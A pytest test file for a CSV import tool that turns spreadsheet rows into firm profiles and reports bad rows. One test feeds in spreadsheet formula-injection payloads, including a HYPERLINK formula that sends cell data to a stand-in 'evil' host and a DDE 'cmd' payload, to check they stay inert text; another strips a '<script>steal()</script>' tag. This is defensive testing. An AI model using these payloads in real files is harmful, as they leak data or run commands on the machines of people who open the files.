"""`better-fit import`: every row becomes a valid profile or is reported; nothing is overwritten or lost on the way."""

from __future__ import annotations

import codecs
import importlib.util
import re
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from better_fit.__main__ import run
from better_fit.joining import amounts, plain
from better_fit.joining.cells import parts
from better_fit.joining.csv_file import DELIMITERS, Row, Sheet, Unreadable
from better_fit.joining.headings import between, field_words
from better_fit.joining.mapping import RawMapping
from better_fit.joining.rows import shorten
from better_fit.reading.load import load
from better_fit.reading.parse import directory_or_raise, read_directory, read_vocabulary
from better_fit.site.machines import Told
from better_fit.site.machines import files as machine_files
from better_fit.site.page import Site
from tests.examples import examples
from tests.repository import bare

ROOT = Path(__file__).parent.parent
WORDS = """\
facets:
  craft:
    label: Craft
    question: What?
    required: true
    primary: true
    terms:
      lawns: {label: Lawn care, definition: Grass., synonyms: [mowing]}
      moss: {label: Moss walls, definition: Moss.}
  style:
    label: Style
    question: How?
    required: true
    terms:
      quiet: {label: Quiet}
  place:
    label: Place
    question: Where?
    terms:
      denver: {label: Denver}
      usa: {label: United States, synonyms: [USA]}
"""
MAPPING = """\
fields:
  name: {column: Name}
  summary: {column: Summary, shorten: true}
  website: {column: Site}
  email: {column: Mail}
  craft:
    column: Craft
    split: ";"
    terms:
      - {value: Turf, means: [lawns]}
      - {value: Pianos, means: skip}
      - {value: Roofs, means: ask}
  style: {value: [quiet]}
"""
HEADER = "Name,Summary,Site,Mail,Craft"
ACME = "Acme,A firm.,https://acme.example,a@acme.example,Lawn care"


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    bare(tmp_path, WORDS)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def sheet(folder: Path, *rows: str, header: str = HEADER, mapping: str | None = MAPPING, end: str = "\n") -> Path:
    path = folder / "firms.csv"
    path.write_bytes(end.join([header, *rows, ""]).encode())
    if mapping is not None:
        (folder / "firms.mapping.yml").write_text(mapping, "utf-8")
    return path


def profiles(folder: Path) -> dict[str, object]:
    return {path.stem: load(path.read_bytes()).value for path in sorted((folder / "partners").iterdir())}


@pytest.fixture
def bring(capsys):
    def call(*words: str) -> tuple[int, str]:
        code = run(["import", "firms.csv", *words])
        printed = capsys.readouterr()
        return code, printed.out + printed.err

    return call


PICTURED = MAPPING.replace("  craft:\n", "  picture: {column: Photo}\n  picture_alt: {column: Shows}\n  craft:\n", 1)


def test_a_column_brings_a_picture_that_lies_beside_the_sheet(folder, bring):
    (folder / "photos").mkdir()
    Image.new("RGB", (900, 700), (90, 130, 90)).save(folder / "photos/Wall 1.JPG", "JPEG")
    birch = "Birch,A firm.,https://birch.example,b@birch.example,Lawn care,,"
    rows = (f"{ACME},photos/Wall 1.JPG,A wall of ferns.", birch)
    sheet(folder, *rows, header=f"{HEADER},Photo,Shows", mapping=PICTURED)
    code, said = bring("--apply")
    assert (code, "2 written" in said) == (0, True)
    profile = load((folder / "partners/acme.yml").read_bytes()).value
    assert profile["pictures"] == [{"file": "wall-1.jpg", "alt": "A wall of ferns."}]
    assert (folder / "partners/pictures/acme/wall-1.jpg").read_bytes() == (folder / "photos/Wall 1.JPG").read_bytes()
    assert "pictures" not in load((folder / "partners/birch.yml").read_bytes()).value
    assert "2 there already" in bring("--apply")[1]


SEVERAL = PICTURED.replace("{column: Photo}", '{column: Photo, split: ";"}').replace(
    "{column: Shows}", "{column: Shows, split: any}"
)


def test_a_row_names_several_pictures_and_what_each_shows(folder, bring):
    for where, colour in (("Wall.jpg", (90, 130, 90)), ("old/wall.jpg", (130, 90, 90))):
        (folder / where).parent.mkdir(exist_ok=True)
        Image.new("RGB", (900, 700), colour).save(folder / where, "JPEG")
    sheet(
        folder, f'{ACME},Wall.jpg; old/wall.jpg;,"A wall\nThe same  wall before"', header=f"{HEADER},Photo,Shows",
        mapping=SEVERAL,
    )  # fmt: skip
    assert bring("--apply") == (0, "1 row: 1 written, 0 reported\n")
    assert load((folder / "partners/acme.yml").read_bytes()).value["pictures"] == [
        {"file": "wall.jpg", "alt": "A wall"},
        {"file": "wall-2.jpg", "alt": "The same wall before"},
    ]
    for name, where in (("wall.jpg", "Wall.jpg"), ("wall-2.jpg", "old/wall.jpg")):
        assert (folder / f"partners/pictures/acme/{name}").read_bytes() == (folder / where).read_bytes()


def test_pictures_of_a_column_each_come_as_the_proposal_says(folder, bring):
    birch = "Birch,A firm.,https://birch.example,b@birch.example,Lawn care,c.jpg,,Ivy,"
    header = f"{HEADER},Picture 1,Picture 2,Says 1,Says 2"
    sheet(folder, f"{ACME},a.jpg,b.jpg,Ferns,Moss", birch, header=header, mapping=None)
    for name in ("a.jpg", "b.jpg", "c.jpg"):
        Image.new("RGB", (900, 700), (90, 130, ord(name[0]))).save(folder / name, "JPEG")
    bring()
    written = next(folder.glob("*.mapping.yml"))
    [line] = re.findall("^# (picture: .+)$", written.read_text(), re.MULTILINE)
    alt = line.replace("picture:", "picture_alt:").replace("Picture", "Says")
    written.write_text(MAPPING.replace("  craft:\n", f"  {line}\n  {alt}\n  craft:\n", 1))
    assert bring("--apply")[0] == 0
    for slug, pictures in (("acme", [("a.jpg", "Ferns"), ("b.jpg", "Moss")]), ("birch", [("c.jpg", "Ivy")])):
        profile = load((folder / f"partners/{slug}.yml").read_bytes()).value
        assert [(one["file"], one["alt"]) for one in profile["pictures"]] == pictures


@pytest.mark.parametrize(
    "photos, shows, says",
    [
        ("wall.jpg; wall.jpg", "A wall", "alt"),
        ("wall.jpg", "A wall; Another", "picture"),
        ("wall.jpg;;wall.jpg", "A wall; Another", "picture"),
        ("wall.jpg; none.jpg", "A wall; Another", "'none.jpg' is not in"),
        ("; ".join(["wall.jpg"] * 7), "; ".join(f"Wall {n}" for n in range(7)), "7 items, and at most 6 fit"),
    ],
)
def test_pictures_of_which_one_is_wrong_are_reported_with_their_row(folder, bring, photos, shows, says):
    Image.new("RGB", (900, 700)).save(folder / "wall.jpg", "JPEG")
    sheet(folder, f"{ACME},{photos},{shows}", header=f"{HEADER},Photo,Shows", mapping=SEVERAL)
    code, said = bring("--apply")
    assert (code, profiles(folder)) == (1, {})
    assert says in said
    assert not (folder / "partners/pictures").exists()


def test_what_a_picture_would_show_keeps_no_row_out_that_has_none(folder, bring):
    mapping = PICTURED.replace("{column: Shows}", '{text: "Work of {Name}"}')
    sheet(folder, f"{ACME},", header=f"{HEADER},Photo", mapping=mapping)
    assert bring("--apply") == (0, "1 row: 1 written, 0 reported\n")
    assert "pictures" not in profiles(folder)["acme"]


@pytest.mark.parametrize(
    "photo, shows, says",
    [
        ("none.jpg", "A wall.", "'none.jpg' is not in"),
        ("../wall.jpg", "A wall.", "'../wall.jpg' is not in"),
        ("small.jpg", "A wall.", "too few"),
        ("wall.jpg", "wall.jpg", "a file's name"),
        ("wall.jpg", "", "alt"),
    ],
)
def test_a_row_whose_picture_can_not_be_shown_is_reported_and_not_written(folder, bring, photo, shows, says):
    for path in (folder / "wall.jpg", folder.parent / "wall.jpg"):
        Image.new("RGB", (900, 700)).save(path, "JPEG")
    Image.new("RGB", (90, 70)).save(folder / "small.jpg", "JPEG")
    sheet(folder, f"{ACME},{photo},{shows}", header=f"{HEADER},Photo,Shows", mapping=PICTURED)
    code, said = bring("--apply")
    assert code == 1
    assert says in said
    assert profiles(folder) == {}


def test_a_missing_picture_is_asked_for_by_the_name_of_the_sheets_folder(folder, bring):
    sheet(folder, f"{ACME},none.jpg,A wall.", header=f"{HEADER},Photo,Shows", mapping=PICTURED)
    said = bring()[1]
    assert f"in {folder}\n" in said
    assert f"put it into {folder}," in said


def test_several_missing_pictures_are_one_sentence_that_reads_well(folder, bring):
    sheet(folder, f"{ACME},a.jpg; b.jpg,A wall; Another", header=f"{HEADER},Photo,Shows", mapping=SEVERAL)
    assert f"row 1: this is not in {folder}\n    'a.jpg' ×1, 'b.jpg' ×1\n" in bring()[1]


def test_what_can_not_be_a_picture_s_name_is_told_once(folder, bring):
    sheet(folder, f"{ACME},../../x,A wall.", header=f"{HEADER},Photo,Shows", mapping=PICTURED)
    said = bring()[1]
    assert "'x' can't be the name of a picture" in said
    assert said.count("'../../x'") == 1


@pytest.mark.parametrize(
    "header, rows",
    [
        ("Photo,Shows", ("a.jpg,Ferns", ",")),
        ("Fotos,Bildbeschreibung", ("a.jpg; b.jpg,Ferns; Moss", "c.jpg,Ivy")),
        ("Image 1,Image 2,Texte alternatif 1,Texte alternatif 2", ("a.jpg,b.jpg,Ferns,Moss", "c.jpg,,Ivy,")),
    ],
)
def test_columns_of_pictures_are_recognised_by_their_headings_and_their_files(folder, bring, header, rows):
    firms = (ACME, "Birch,A firm.,https://birch.example,b@birch.example,Lawn care")
    sheet(folder, *map(",".join, zip(firms, rows, strict=True)), header=f"{HEADER},{header}", mapping=None)
    for name in ("a.jpg", "b.jpg", "c.jpg"):
        Image.new("RGB", (900, 700), (90, 130, ord(name[0]))).save(folder / name, "JPEG")
    bring()
    written = next(folder.glob("*.mapping.yml"))
    written.write_text(written.read_text().replace("style: {value: []}", "style: {value: [quiet]}"))
    assert bring("--apply")[0] == 0
    told = [load(path.read_bytes()).value.get("pictures", []) for path in sorted((folder / "partners").glob("*.yml"))]
    words = {"a.jpg": "Ferns", "b.jpg": "Moss", "c.jpg": "Ivy"}
    assert [one["file"] for firm in told for one in firm] == sorted(name for name in words if name in "".join(rows))
    assert all(one["alt"] == words[one["file"]] for firm in told for one in firm)


def test_a_column_of_addresses_is_no_column_of_pictures_and_pictures_without_words_are_left_to_the_owner(folder, bring):
    sheet(folder, f"{ACME},https://acme.example/a.jpg", header=f"{HEADER},Photo", mapping=None)
    bring()
    written = next(folder.glob("*.mapping.yml"))
    assert "nothing takes: Photo" in written.read_text()
    written.unlink()
    sheet(folder, f"{ACME},a.jpg", header=f"{HEADER},Photo", mapping=None)
    bring()
    assert "\n  # picture: {column: Photo}\n  # picture_alt: {column: …}  # needed" in written.read_text()


def test_a_dry_run_writes_nothing_and_says_what_would_happen(folder, bring):
    sheet(folder, ACME)
    code, said = bring()
    assert code == 0
    assert said.endswith("\n1 row: 1 would be written, 0 reported\n    nothing is written yet: add --apply\n")
    assert "craft from column Craft: 1 row\n    lawns ×1\n    such as 'Lawn care' → lawns\n" in said
    assert profiles(folder) == {}


def test_a_row_becomes_a_profile_that_check_accepts_and_a_second_run_changes_nothing(folder, bring):
    sheet(folder, ACME)
    assert bring("--apply") == (0, "1 row: 1 written, 0 reported\n")
    assert profiles(folder) == {
        "acme": {
            "name": "Acme",
            "summary": "A firm.",
            "website": "https://acme.example",
            "contact": {"email": "a@acme.example"},
            "craft": ["lawns"],
            "style": ["quiet"],
        }
    }
    assert read_directory(folder)[1] == []
    before = (folder / "partners/acme.yml").stat()
    assert bring("--apply") == (0, "1 row: 0 written, 1 there already, 0 reported\n")
    assert (folder / "partners/acme.yml").stat() == before


def test_a_profile_that_was_changed_since_is_left_as_it_is_and_named(folder, bring):
    sheet(folder, ACME)
    bring("--apply")
    profile = folder / "partners/acme.yml"
    profile.write_text(profile.read_text() + "availability: open\n")
    code, said = bring("--apply")
    assert code == 0
    assert "left as it is: row 1" in said
    assert "availability: open" in profile.read_text()


@pytest.mark.parametrize(
    "row,said",
    [
        (ACME.replace("https://acme.example", "acme"), "row 1, column Site, 'acme': 'acme' is not an https address"),
        (ACME.replace("A firm.", ""), "row 1, column Summary: nothing in this row gives 'summary'"),
        (ACME.replace("a@acme.example", "call us"), "row 1, column Mail, 'call us': 'call us' is not a plain mail"),
        (ACME.replace("a@acme.example", ""), "nothing in this row gives 'contact'"),
        (ACME.replace("Lawn care", "Roofs"), "column Craft, 'Roofs': what it means for craft is not decided yet"),
        (ACME.replace("Lawn care", "Lawns; Wels"), "column Craft, 'Wels': what it means for craft is not decided"),
        (ACME.replace("Acme", "<b>"), "column Name, '<b>': names and labels can't hold '<' or '>'"),
        (ACME.replace("Acme", "A\u202eb"), "U+202E"),
        (ACME.replace("A firm.", "A \x07 firm."), "U+0007 at character 3 is a control character"),
        (ACME + ",more", "row 1: 6 cells, and the header names 5"),
        ("Acme,A firm.", "row 1: 2 cells, and the header names 5"),
        ('Acme,"A "firm".",x,y,z', "row 1: a quote inside a cell is not doubled"),
        ('Acme,"A firm.,https://acme.example', "row 1: a quote opens on line 2 and is never closed"),
    ],
)
def test_a_row_that_can_not_become_a_profile_is_reported_with_its_place_and_reason(folder, bring, row, said):
    sheet(folder, row, "Good,Fine.,https://good.example,g@good.example,moss" * ("never closed" not in said))
    code, printed = bring("--apply")
    assert code == 1
    assert printed.startswith("firms.csv:2: row 1")
    assert said in printed
    assert "\x07" not in printed
    assert "\u202e" not in printed
    assert "1 reported" in printed
    assert list(profiles(folder)) == ["good"] * ("never closed" not in said)


def test_every_fault_of_a_row_is_told_at_once(folder, bring):
    sheet(folder, "<b>,,ftp://x,@,Roofs")
    _, said = bring()
    assert [column for column in ("Name", "Summary", "Site", "Mail", "Craft") if f"column {column}" not in said] == []


def test_what_the_mapping_leaves_out_is_named(folder, bring):
    sheet(folder, ACME.replace("Lawn care", "Turf; pianos"))
    code, said = bring()
    assert code == 0
    assert "column Craft: left out, as the mapping says: row 1\n    'pianos' ×1" in said


def test_http_and_bare_addresses_are_written_with_https_and_named(folder, bring):
    rows = [ACME.replace("https", "http"), "B,B.,b.example/x,b@b.example,moss"]
    sheet(folder, *rows)
    code, said = bring("--apply")
    assert code == 0
    assert "column Site: http or no scheme: written with https: rows 1, 2" in said
    assert [p["website"] for p in profiles(folder).values()] == ["https://acme.example", "https://b.example/x"]


@pytest.mark.parametrize(
    "cell,kept",
    [
        ('=HYPERLINK("http://evil?"&A1)', '=HYPERLINK("http://evil?"&A1)'),
        ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "@SUM(1+1)"),
        ("+1 more", "+1 more"),
        ("- a dash", "- a dash"),
        ("＝1+1", "＝1+1"),
        ("'=1+1", "=1+1"),
        ("'tis", "'tis"),
        ("{{ config }}", "{{ config }}"),
        ("no", "no"),
        ("#1: the best", "#1: the best"),
    ],
)
def test_cells_that_look_like_commands_stay_the_text_that_they_are(folder, bring, cell, kept):
    quoted = cell.replace('"', '""')
    sheet(folder, f'Acme,"{quoted}",https://acme.example,a@acme.example,moss')
    code, said = bring("--apply")
    assert code == 0
    assert profiles(folder)["acme"]["summary"] == kept
    assert ("begins like a formula" in said) == (kept[0] in "=@＝")
    assert directory_or_raise(folder).partners["acme"].summary == kept


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
@pytest.mark.parametrize("sign", [",", ";", "\t", "|"])
@pytest.mark.parametrize("mark", [b"", codecs.BOM_UTF8])
def test_every_kind_of_csv_says_the_same(folder, bring, end, sign, mark):
    cells = ["Ä & Ö", f"Quotes {sign} and", "https://acme.example", "a@acme.example", "mowing"]
    rows = [HEADER.split(","), cells]
    text = end.join(sign.join(f'"{cell}"' if sign in cell else cell for cell in row) for row in [*rows, [""]])
    path = sheet(folder)
    path.write_bytes(mark + text.encode())
    assert bring("--apply")[0] == 0
    assert profiles(folder)["a-and-o"]["summary"] == " ".join(f"Quotes {sign} and".split())


def test_every_sign_that_a_sheet_can_have_can_be_named_in_a_mapping():
    for sign in DELIMITERS:
        assert RawMapping.model_validate({"delimiter": sign, "fields": {}}).delimiter == sign


def test_excel_s_own_line_about_the_sign_is_no_row(folder, bring):
    sheet(folder, ACME.replace(",", ";"), header="sep=;\n" + HEADER.replace(",", ";"))
    assert bring()[0] == 0


def test_a_quoted_cell_keeps_its_quotes_and_its_lines_become_one(folder, bring):
    sheet(folder, 'Acme,"A ""fine""\r\nfirm.",https://acme.example,a@acme.example,moss', end="\r\n")
    assert bring("--apply")[0] == 0
    assert profiles(folder)["acme"]["summary"] == 'A "fine" firm.'


@pytest.mark.parametrize(
    "data,said",
    [
        (
            "Name\nMüller\n".encode("cp1252"),
            "the byte 0xFC at offset 6 (line 2) can't be read\n    it looks like cp1252",
        ),
        ("Name\nMüller\n".encode("utf-16"), "it looks like utf-16: add --encoding utf-16"),
        ("Name\nMuller\n".encode("utf-16-le"), "it looks like utf-16-le"),
        (b"Name\nM\0ller\n", "a zero byte at offset 6"),
        (b"", "there is no header"),
        (b"Name,Name\n", "two columns are called 'Name'"),
        (b"A\x1b[31m,b\n", "can't be a column's name"),
    ],
)
def test_a_file_that_is_no_such_sheet_is_refused_with_what_to_do(folder, bring, data, said):
    sheet(folder).write_bytes(data)
    code, printed = bring()
    assert code == 2
    assert said in printed
    assert "\x1b" not in printed


def test_another_encoding_can_be_named_and_is_kept_in_the_mapping(folder, bring):
    path = sheet(folder, mapping=None)
    path.write_bytes(f"{HEADER}\n{ACME.replace('Acme', 'Müller')}\n".encode("cp1252"))
    assert bring()[0] == 2
    assert not (folder / "firms.mapping.yml").exists()
    bring("--encoding", "cp1252")
    mapping = folder / "firms.mapping.yml"
    assert "encoding: cp1252" in mapping.read_text()
    mapping.write_text(mapping.read_text().replace("style: {value: []}", "style: {value: [quiet]}"))
    assert bring("--apply") == (0, "1 row: 1 written, 0 reported\n")
    assert profiles(folder)["muller"]["name"] == "Müller"


@pytest.mark.parametrize(
    "words", [["nothing.csv"], ["."], ["firms.csv", "--encoding", "rot13"], ["firms.csv", "--encoding", "undefined"]]
)
def test_a_call_that_can_not_work_ends_with_two(folder, capsys, words):
    sheet(folder, ACME)
    assert run(["import", *words]) == 2
    assert "Traceback" not in capsys.readouterr().err


def test_a_mapping_is_proposed_from_columns_and_values_and_never_written_over(folder, bring):
    rows = [
        f"Firm {n},www.f{n}.example,{craft},{city},USA,Words about {n}."
        for n, craft in enumerate(["Mowing", "mowing/moss walls", "Lawn caer", "Pianos", "Mowing", "Lawn care"])
        for city in ["Denver"]
    ]
    sheet(folder, *rows, header="Company,Web,What they do,City,Country,Extra", mapping=None)
    code, said = bring()
    assert code == 1
    assert said.startswith("firms.mapping.yml is written")
    assert "nothing fills 'style' yet" in said
    text = (folder / "firms.mapping.yml").read_text("utf-8")
    read = load(text.encode())
    assert read.findings == ()
    fields = read.value["fields"]
    assert fields["name"] == {"column": "Company"}
    assert fields["website"] == fields["contact_url"] == {"column": "Web"}
    assert fields["craft"] == [
        {"column": "What they do", "split": "any", "terms": {"lawns": ["Lawn caer"], "ask": ["Pianos"]}}
    ]
    assert "by spelling, like 'Lawn care': look at it" in text
    assert {source["column"] for source in fields["place"]} == {"City", "Country"}
    assert "Columns that nothing takes: Extra." in text
    decided = text.replace("style: {value: []}", "style: {value: [quiet]}").replace("        ask:", "        moss:")
    (folder / "firms.mapping.yml").write_text(decided, "utf-8")
    code, said = bring("--apply")
    assert (code, len(profiles(folder))) == (0, 6)
    assert (folder / "firms.mapping.yml").read_text("utf-8") == decided
    assert read_directory(folder)[1] == []


def test_nothing_is_written_before_the_mapping_was_read(folder, bring):
    sheet(folder, ACME, mapping=None)
    code, said = bring("--apply")
    assert code == 2
    assert "read the mapping" in said
    assert profiles(folder) == {}


@pytest.mark.parametrize(
    "change,said",
    [
        (
            ("column: Site", "column: Sitee"),
            ":4:12: fields.website: there is no column 'Sitee'\n    did you mean 'Site'?",
        ),
        (("website:", "web:"), "'web' can't be filled from a sheet"),
        (("[quiet]", "[quit]"), "'quit' is not a term of style\n    did you mean 'quiet'?"),
        (("[lawns]", "[lawn]"), "'lawn' is not a term of craft\n    did you mean 'lawns'?"),
        (("means: ask", "means: maybe"), "a list of terms was expected here"),
        (("{column: Mail}", "{column: Mail, text: '{Mail}'}"), "email needs one of column, text and value"),
        (("  style: {value: [quiet]}\n", ""), "nothing fills 'style'"),
        (("column: Craft", "column: &a Craft"), "anchors (&) and aliases (*) are not allowed"),
        (("fields:", "fieldz:"), "did you mean 'fields'?"),
        (('split: ";"', 'split: ""'), ":8:12: fields.craft.0.split: there is no text here"),
        (('split: ";"', f"split: {';' * 11}"), "11 characters, and at most 10 fit"),
    ],
)
def test_a_mapping_that_is_wrong_is_told_where_and_what_to_write(folder, bring, change, said):
    assert change[0] in MAPPING
    sheet(folder, ACME, mapping=MAPPING.replace(*change))
    code, printed = bring("--apply")
    assert code == 1
    assert said in printed
    assert "firms.mapping.yml:" in printed
    assert profiles(folder) == {}


def test_two_rows_of_one_firm_and_names_that_look_alike_are_reported(folder, bring):
    other = "A.C.M.E.,Other.,https://other.example,o@other.example,moss"
    sheet(folder, ACME, ACME, other)
    code, said = bring("--apply")
    assert code == 1
    assert (
        "rows 2, 3: an earlier row is this firm already, or looks like it\n    'Acme (row 1)' ×1, 'A.C.M.E. (row 1)'"
        in said
    )
    assert list(profiles(folder)) == ["acme"]
    assert "0 written, 1 there already, 2 reported" in bring("--apply")[1]


def test_a_firm_that_is_there_under_another_site_is_not_taken_for_the_row_s(folder, bring):
    sheet(folder, ACME)
    bring("--apply")
    sheet(folder, ACME.replace("acme.example", "acme-two.example"))
    code, said = bring("--apply")
    assert code == 1
    assert "looks like 'Acme' of partners/acme.yml, which has another website" in said


def test_names_without_latin_letters_get_their_file_s_name_from_the_site(folder, bring):
    sheet(folder, ACME.replace("Acme", "株式会社緑").replace("https://acme", "https://www.midori"))
    assert bring("--apply")[0] == 0
    assert list(profiles(folder)) == ["midori"]


def test_a_column_may_name_the_files(folder, bring):
    rows = [f"{ACME},my-acme", "B,B.,https://b.example,b@b.example,moss,No Slug"]
    sheet(folder, *rows, header=f"{HEADER},Id", mapping=f"{MAPPING}  slug: {{column: Id}}\n")
    code, said = bring("--apply")
    assert (code, list(profiles(folder))) == (1, ["my-acme"])
    assert "column Id, 'No Slug': 'No Slug' can't be a file's name here" in said


def test_our_own_spreadsheet_comes_back_as_it_went_out(folder, bring, tmp_path):
    """Not everything is in the sheet, but what is in it returns unchanged, formula signs included."""
    (folder / "directory/vocabulary.yml").write_bytes((ROOT / "directory/vocabulary.yml").read_bytes())
    directory = directory_or_raise(ROOT)
    site = Site("X", "", "", __import__("datetime").date(2026, 1, 1))
    out = dict(machine_files([Told(directory)], site, {}))["partners.csv"]
    facets = "".join(f"  {f}: {{column: {f}, split: '; '}}\n" for f in directory.vocabulary.facets)
    plain = "slug name summary website email phone contact_url person budget_currency budget_from budget_to budget_per"
    fields = "".join(f"  {f}: {{column: {f}}}\n" for f in [*plain.split(), "availability", "confirmed"])
    sheet(folder, mapping=f"fields:\n{fields}{facets}").write_bytes(out.encode())
    code, said = bring("--apply")
    assert (code, said) == (0, f"{len(directory.active)} rows: {len(directory.active)} written, 0 reported\n")
    back = directory_or_raise(folder).partners
    for slug, partner in directory.active.items():
        same = back[slug]
        assert (same.name, same.summary, same.contact, same.terms, same.budget, same.confirmed) == (
            partner.name, partner.summary, partner.contact, partner.terms, partner.budget, partner.confirmed
        )  # fmt: skip


CELLS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=60)


@settings(max_examples=examples(15), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(CELLS, CELLS, CELLS), max_size=4))
def test_whatever_is_in_the_cells_each_row_is_a_profile_or_reported(folder, bring, rows):
    import csv
    import io

    for path in (folder / "partners").iterdir():
        path.unlink()
    text = io.StringIO(newline="")
    writer = csv.writer(text)
    writer.writerow(HEADER.split(","))
    for place, (name, summary, craft) in enumerate(rows):
        writer.writerow([name, summary, f"https://f{place}.example", "a@b.example", craft or "moss"])
    sheet(folder).write_text(text.getvalue(), "utf-8", newline="")
    mapping = MAPPING.replace("split:", "otherwise: [moss]\n    split:")
    (folder / "firms.mapping.yml").write_text(mapping, "utf-8")
    code, said = bring("--apply")
    assert code in (0, 1)
    sums = re.search(r"^(\d+) rows?: (\d+) written, (\d+) reported", said, re.MULTILINE)
    assert sums is not None
    assert int(sums[1]) == len(rows) == int(sums[2]) + int(sums[3])
    assert len(profiles(folder)) == int(sums[2])
    assert [p for p in read_directory(folder)[1] if p.severity == "error"] == []


def many(path: Path, count: int) -> Path:
    rows = (f"Firm {n},Does things.,https://f{n}.example,f@f{n}.example,moss" for n in range(count))
    path.write_text("\n".join([HEADER, *rows]), "utf-8")
    return path


def test_a_hundred_thousand_rows_are_read_in_seconds(tmp_path):
    path = many(tmp_path / "many.csv", 100_000)
    started = time.process_time()
    assert sum(isinstance(row, Row) for row in Sheet(path)) == 100_000
    assert time.process_time() - started < 10


def test_a_large_sheet_takes_little_more_memory_than_its_text(tmp_path):
    path = many(tmp_path / "many.csv", 10_000)
    tracemalloc.start()
    assert sum(isinstance(row, Row) for row in Sheet(path)) == 10_000
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 12 * path.stat().st_size  # the bytes, the text and its lines; not a row beside the one in hand


def test_a_quote_that_swallows_rows_names_all_of_their_lines(tmp_path):
    path = tmp_path / "q.csv"
    path.write_text('a,b\n1,"x\n2,y\n3,"z\n4,5\n', "utf-8")
    rows = list(Sheet(path))
    assert [(row.line, row.last) for row in rows if isinstance(row, Unreadable)] == [(2, 4)]
    assert [row.cells for row in rows if isinstance(row, Row)] == [{"a": "4", "b": "5"}]


def test_a_summary_keeps_whole_sentences_or_says_that_it_goes_on():
    sentence = "Twenty characters xx."
    assert shorten(" ".join([sentence] * 20)) == " ".join([sentence] * 9)
    assert len(shorten("word " * 100)) <= 200
    assert shorten("word " * 100).endswith("word…")


def test_a_vocabulary_that_is_broken_is_reported_first(folder, bring):
    sheet(folder, ACME)
    (folder / "directory/vocabulary.yml").write_text("facets: {}\n")
    assert bring()[0] == 1
    assert read_vocabulary(folder)[1] != []


def test_a_text_is_searched_only_where_the_mapping_says_so_and_the_dry_run_says_that_it_could_be(folder, bring):
    header = "Name,Slogan,Site,Mail,About"
    row = "Acme,A firm.,https://acme.example,a@acme.example,We would never do moss walls."
    sheet(folder, row, header=header, mapping=None)
    code, said = bring()
    assert code == 1
    assert "no column holds craft; 'About' mentions its terms in 1 row. Mentions prove nothing" in said
    mapping = folder / "firms.mapping.yml"
    assert {"craft": {"value": []}, "style": {"value": []}}.items() <= load(mapping.read_bytes()).value[
        "fields"
    ].items()
    asked = mapping.read_text("utf-8").replace("style: {value: []}", "style: {value: [quiet]}")
    mapping.write_text(asked.replace("craft: {value: []}", "craft: {column: About, search: true}"), "utf-8")
    assert bring("--apply")[0] == 0
    assert profiles(folder)["acme"]["craft"] == ["moss"]


def test_the_same_thing_in_many_rows_is_said_once_with_the_rows_as_ranges(folder, bring):
    rows = [f"F{n},A firm.,https://f{n}.example,f@f{n}.example,{'moss' if n == 5 else 'Roofs'}" for n in range(1, 12)]
    rows[9] = rows[9].replace("Roofs", "Walls")
    sheet(folder, *rows)
    code, said = bring()
    assert code == 1
    assert "firms.csv:2: rows 1–4, 6–11, column Craft: what it means for craft is not decided yet\n" in said
    assert "    'Roofs' ×9, 'Walls' ×1\n" in said
    assert said.count("not decided") == 1


def test_bad_addresses_are_one_message_that_names_each(folder, bring):
    sheet(folder, *(f"F{n},A firm.,{n} nowhere,f@f{n}.example,moss" for n in range(3)))
    _, said = bring()
    assert "rows 1–3, column Site: this is not an https address" in said
    assert "'0 nowhere' ×1, '1 nowhere' ×1, '2 nowhere' ×1" in said


@pytest.mark.parametrize(
    "cell,wanted",
    [
        ("https:/acme.example", "https://acme.example"),
        ("http:/acme.example/", "https://acme.example"),
        ("https://https://acme.example", "https://acme.example"),
        ("HTTPS://acme.example/a/", "https://acme.example/a/"),
        ("www.acme.example/", "https://www.acme.example"),
        ("  https://acme.example ", "https://acme.example"),
        ('<a href="https://acme.example">Acme</a>', "https://acme.example"),
        ("[Acme](http://acme.example)", "https://acme.example"),
    ],
)
def test_certain_slips_in_addresses_are_mended_and_listed(folder, bring, cell, wanted):
    quoted = cell.replace('"', '""')
    sheet(folder, f'Acme,A firm.,"{quoted}",a@acme.example,moss')
    code, said = bring("--apply")
    assert code == 0
    assert profiles(folder)["acme"]["website"] == wanted
    assert "firms.csv: column Site: " in said
    assert "0 written, 1 there already" in bring("--apply")[1]


@pytest.mark.parametrize("cell", ["mailto:a@acme.example", "MAILTO:a@acme.example?subject=x", "Ann <a@acme.example>"])
def test_a_mail_address_is_taken_out_of_what_surrounds_it(folder, bring, cell):
    sheet(folder, ACME.replace("a@acme.example", cell))
    assert bring("--apply")[0] == 0
    assert profiles(folder)["acme"]["contact"] == {"email": "a@acme.example"}


@pytest.mark.parametrize(
    "text,said",
    [
        ("<p>One</p><p>Two &amp; three</p>", "One\n\nTwo & three"),
        ("<script>steal()</script>Good", "Good"),
        ("a < b and c > d", "a < b and c > d"),
        ("AT&T; R&D", "AT&T; R&D"),
    ],
)
def test_html_becomes_what_a_browser_would_show(text, said):
    assert plain.without_html(text) == said


@pytest.mark.parametrize(
    "text,said",
    [
        ("**Bold** and _soft_", "Bold and soft"),
        ("[Acme](https://acme.example)", "Acme"),
        ("![logo](x.png) Acme", "logo Acme"),
        ("# Head", "Head"),
        ("#1: the best", "#1: the best"),
        ("snake_case_name", "snake_case_name"),
        ("2 * 3 * 4", "2 * 3 * 4"),
        ("- a dash", "- a dash"),
        ("- one\n- two", "one\ntwo"),
    ],
)
def test_markdown_becomes_its_words_and_plain_signs_stay(text, said):
    assert plain.without_markdown(text) == said


@pytest.mark.parametrize(
    "written,sum_",
    [("$5,000", "5000"), ("5.000 €", "5000"), ("10k", "10000"), ("CHF 5'000.–", "5000"), ("5.5", "5.5"), ("x", "x")],
)
def test_a_sum_is_read_as_people_write_it_or_left(written, sum_):
    assert amounts.sum_in(written) == sum_


@pytest.mark.parametrize("written", ["5²", "1" * 5000, "1" + ",000" * 1600])
def test_what_no_number_can_be_read_from_is_no_sum_and_no_end_of_a_range(written):
    assert amounts.sum_in(written) == written
    assert not amounts.is_sum(written)
